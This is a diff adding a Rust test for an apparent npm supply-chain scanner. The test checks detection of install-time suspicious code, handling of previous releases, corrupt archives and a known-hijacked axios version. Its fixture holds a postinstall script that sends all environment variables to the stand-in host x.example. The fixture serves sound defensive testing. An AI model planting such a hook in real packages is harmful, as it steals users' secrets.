@@ -227,3 +227,38 @@ fn several_artefacts_name_their_files_apart() {
     repo.write("dist/b-1.tgz", npm(&[("package.json", MANIFEST), INDEX]));
     repo.shield(&["publish", "dist/a-1.tgz", "dist/b-1.tgz", "--format", "json"]).expect_blocked(&["a-1.tgz/a.js:1"]);
 }
+
+#[test]
+fn code_that_does_what_attacks_do_is_scored_before_and_after_publishing() {
+    let sandbox = Sandbox::new();
+    let repo = project(&sandbox);
+    let installs = br#"{"name": "acme", "version": "1.0.0", "scripts": {"postinstall": "node lib/setup.js"}}"#;
+    let code = b"const https = require('https'), os = require('os')\n\
+        https.request({host: 'x.example', path: '/' + os.hostname()}).end(JSON.stringify(process.env))\n";
+    let bad = npm(&[("package.json", installs), ("lib/setup.js", code)]);
+    repo.write("bad.tgz", &bad).write("good.tgz", npm(&[("package.json", MANIFEST), ("lib/setup.js", code)]));
+    let run = repo.shield(&["publish", "bad.tgz", "--no-git", "--format", "json"]).expect(0);
+    let of_rule = |run: &crate::support::Run| run.stdout.matches("\"suspicious-code\"").count();
+    assert_eq!(of_rule(&run), 1, "{run:?}");
+    assert!(run.stdout.contains("while it is installed"), "{run:?}");
+    // What the release before had is not new, and what nobody runs by installing is no attack.
+    for args in [&["publish", "bad.tgz", "--no-git", "--against", "bad.tgz"][..], &["publish", "good.tgz", "--no-git"]] {
+        let run = repo.shield(args).expect(0);
+        assert!(!run.stdout.contains("suspicious-code"), "{run:?}");
+    }
+    // Whoever fetched it.
+    let run = repo.shield(&["check", "bad.tgz", "--format", "json"]).expect(0);
+    let package = &run.json()["packages"][0];
+    assert_eq!((package["name"].as_str(), package["verdict"].as_str()), (Some("acme"), Some("warn")), "{run:?}");
+    assert!(package["notes"][0].as_str().unwrap().starts_with("lib/setup.js: suspicious code, score"), "{run:?}");
+    let run = repo.shield(&["check", "good.tgz", "--all", "--format", "json"]).expect(0);
+    assert_eq!(run.json()["packages"][0]["verdict"], "unknown");
+    repo.write("cut.tgz", &bad[..bad.len() - 20]);
+    repo.shield(&["check", "cut.tgz"]).expect(2);
+    repo.write("other.tgz", tgz(&[("a/b.txt", b"x")]));
+    repo.shield(&["check", "other.tgz"]).expect(3);
+    // A known-bad version is one, whatever is in it.
+    let hijacked = br#"{"name": "axios", "version": "1.14.1"}"#;
+    repo.write("axios.tgz", npm(&[("package.json", hijacked)]));
+    repo.shield(&["check", "axios.tgz"]).expect(1);
+}
